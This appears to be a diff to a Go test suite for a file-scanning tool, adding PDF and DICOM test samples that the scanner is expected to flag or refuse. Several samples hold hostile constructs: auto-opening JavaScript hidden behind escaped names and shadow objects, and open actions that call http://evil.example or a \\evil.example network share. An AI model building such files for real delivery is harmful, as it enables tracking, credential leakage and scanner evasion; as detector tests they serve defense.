@@ -65,7 +65,35 @@ func pictures() []sample {
 func papers() []sample {
 	whole := aPDF("")
 	script := "<</S/JavaScript/JS(app.alert(1))>>"
-	return []sample{
+	hidden := "<</OpenAction<</S/#4aavaScript/#4aS(app.alert(1))>>>>"
+	behind := func(more string) []byte { // the catalog, then what its table does not know
+		return pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + more, onePage[0], onePage[1]}, "")
+	}
+	linked := "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://phare.example)>>>>]>>"
+	return append([]sample{
+		{name: "pdf with a link on its first page", called: "letter.pdf", bytes: pdfFrom([]string{"<</Type/Catalog/Pages 2 0 R/OpenAction[3 0 R/Fit]>>", onePage[0], linked}, "")},
+		{name: "pdf with a packed link", called: "letter.pdf", bytes: packedPDF("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/GoTo/D[3 0 R/Fit]>>>>", onePage[0], linked)},
+		{name: "opens another file", called: "letter.pdf", bytes: aPDF(`/OpenAction<</S/GoToR/F(\\\\evil.example\\x.pdf)/D[0/Fit]>>`), findings: []string{Launch}},
+		{name: "opens another file with its page", called: "letter.pdf", bytes: aPDF("", `<</AA<</O<</F(\\\\evil.example\\x)/D[0/Fit]/S/GoToR>>>>>>`), findings: []string{Launch}},
+		{name: "calls an address on opening", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/URI/URI(http://evil.example/beacon)>>"), findings: []string{Launch}},
+		{name: "calls an address that stands elsewhere", called: "letter.pdf", bytes: aPDF("/OpenAction 3 0 R", "<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch}},
+		{name: "calls a packed address", called: "letter.pdf", bytes: packedPDF("<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", onePage[0], onePage[1], "<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch}},
+		{name: "calls an address in the end", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/GoTo/D[5 0 R/Fit]/Next[3 0 R]>>", "<</S/Named/N/NextPage/Next 4 0 R>>", "<</S/U#52I/URI(http://evil.example)>>"), findings: []string{Launch}},
+		{name: "calls an address from a field", called: "letter.pdf", bytes: aPDF("", "<</Kids[<</A#41<</E<</S/URI/URI(http://evil.example)>>>>>>]>>"), findings: []string{Launch}},
+		{name: "plays a film", called: "letter.pdf", bytes: aPDF("/OpenAction<</S/Movie/T(x)>>"), findings: []string{Launch}},
+		{name: "plays a sound", called: "letter.pdf", bytes: aPDF("", "<</Type/Annot/Subtype/Sound>>"), findings: []string{Launch}},
+		{name: "data in another file", called: "letter.pdf", bytes: aPDF("", stream(`/Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(\\\\evil.example\\x)`, nil)), findings: []string{Launch}},
+		{name: "a key that stands twice", called: "letter.pdf", bytes: aPDF("/OpenAction 3 0 R", "<</S/#4aavaScript/S/GoTo/#4aS(app.alert(1))/#4aS null>>"), findings: []string{Script}},
+		{name: "an older object", called: "letter.pdf", bytes: behind("1 0 obj\n" + hidden), findings: []string{Script}},
+		{name: "an older object behind an open bracket", called: "letter.pdf", bytes: behind("(\n1 0 obj\n" + hidden), findings: []string{Script}},
+		{name: "an older object that ends in words", called: "letter.pdf", bytes: behind("1\x000\r\nobj<</X(endobj)/Y(\\)endobj)" + hidden[2:]), findings: []string{Script}},
+		{name: "an older address", called: "letter.pdf", bytes: behind("1 0 obj\n<</OpenAction 9 0 R>>\nendobj\n9 0 obj<</S/URI/URI(http://evil.example)>>"), findings: []string{Launch}},
+		{name: "an older packed object", called: "letter.pdf", bytes: behind("9 0 obj\n" + stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflate([]byte("8 0 "+hidden)))), findings: []string{Script}},
+		{name: "an object behind the end", called: "letter.pdf", bytes: append(bytes.Clone(whole), "1 0 obj\n"+hidden+"\nendobj\n%%EOF\n"...), findings: []string{Archive, Script}},
+		{name: "words behind the last table", called: "letter.pdf", bytes: append(bytes.Clone(whole), "hello\n%%EOF\n"...), findings: []string{Archive}},
+		{name: "a table that is nowhere", called: "letter.pdf", bytes: append(bytes.Clone(whole), "1 0 obj\n"+hidden+"\nendobj\ntrailer\n<</Size 4/Root 1 0 R>>\nstartxref\n999999\n%%EOF\n"...), refused: "-", findings: []string{Script}},
+		{name: "objects in one another without end", called: "letter.pdf", bytes: behind(strings.Repeat("1 0 obj(", 20_000)), refused: "-"},
+	}, []sample{
 		{name: "pdf", called: "letter.pdf", as: "application/pdf", bytes: whole},
 		{name: "pdf 1.5", called: "letter.pdf", bytes: packedPDF(append([]string{"<</Type/Catalog/Pages 2 0 R>>"}, onePage...)...)},
 		{name: "pdf that opens on a page", called: "letter.pdf", bytes: aPDF("/OpenAction[4 0 R/Fit]", "<</Ignored true>>")},
@@ -109,7 +137,7 @@ func papers() []sample {
 		{name: "objects that swell", called: "letter.pdf", bytes: swelling(), refused: "-"},
 		{name: "pdf called jpg", called: "photo.jpg", bytes: whole, refused: Mismatch},
 		{name: "pdf declared html", called: "letter.pdf", as: "text/html", bytes: whole, refused: Mismatch},
-	}
+	}...)
 }
 
 // scans are DICOM, programs, and nothing at all.
@@ -124,6 +152,8 @@ func scans() []sample {
 	}
 	seq := func(n uint32, body []byte) []byte { return append(elementHead(0x00081140, "SQ", n), body...) }
 	sop := element(0x00081150, "UI", []byte("1.2.3\x00"))
+	enclosing := []byte("1.2.840.10008.5.1.4.1.1.104.1")
+	said := append(aDICOM("", littleEndian)[:132:132], element(0x00020002, "UI", enclosing)...)
 	return []sample{
 		{name: "scan", called: "IM0001.dcm", as: "application/dicom", bytes: scan},
 		{name: "scan without ending", called: "IM0001", bytes: scan},
@@ -147,6 +177,10 @@ func scans() []sample {
 		{name: "sequences without end", called: "a.dcm", bytes: aDICOM("", littleEndian, bytes.Repeat(append(elementHead(0x00081140, "SQ", undefined), elementHead(itemTag, "", undefined)...), 10_000)), refused: Unreadable},
 		{name: "a sequence longer than its own items", called: "a.dcm", bytes: aDICOM("", littleEndian, seq(10, append(elementHead(itemTag, "", uint32(len(sop))), sop...))), refused: Unreadable},
 		{name: "group 2 without end", called: "a.dcm", bytes: aDICOM("", littleEndian, elementHead(0x00020102, "OB", 0x7ffffff0)), refused: Unreadable},
+		{name: "encloses a pdf, as its head says", called: "a.dcm", bytes: append(said, aScan("")[132:]...), refused: Enclosed},
+		{name: "encloses a pdf, as its data say", called: "a.dcm", bytes: aDICOM("", littleEndian, element(0x00080016, "UI", bytes.Clone(enclosing))), refused: Enclosed},
+		{name: "encloses a pdf and says nothing", called: "a.dcm", bytes: aDICOM("", implicitLE, append(elementHead(0x00420011, "", 4), "%PDF"...)), refused: Enclosed},
+		{name: "a scan that says what it is", called: "a.dcm", bytes: aDICOM("", littleEndian, element(0x00080016, "UI", []byte("1.2.840.10008.5.1.4.1.1.4")))},
 		{name: "scan called pdf", called: "a.pdf", bytes: scan, refused: Mismatch},
 		{name: "preamble and nothing", called: "a.dcm", bytes: append(make([]byte, 128), "DICM"...), refused: Unreadable},
 		{name: "program", called: "a.exe", bytes: []byte("MZ\x90\x00"), refused: Unknown},
@@ -230,7 +264,7 @@ func look(t *testing.T, r *Runner, s sample) (Verdict, []byte) {
 		return Verdict{Refused: why}, nil
 	}
 	var kept bytes.Buffer
-	v, err := r.Inspect(t.Context(), kind, bytes.NewReader(s.bytes), &kept)
+	v, err := r.Inspect(t.Context(), Sender{}, kind, bytes.NewReader(s.bytes), &kept)
 	if err != nil {
 		t.Fatal(err)
 	}
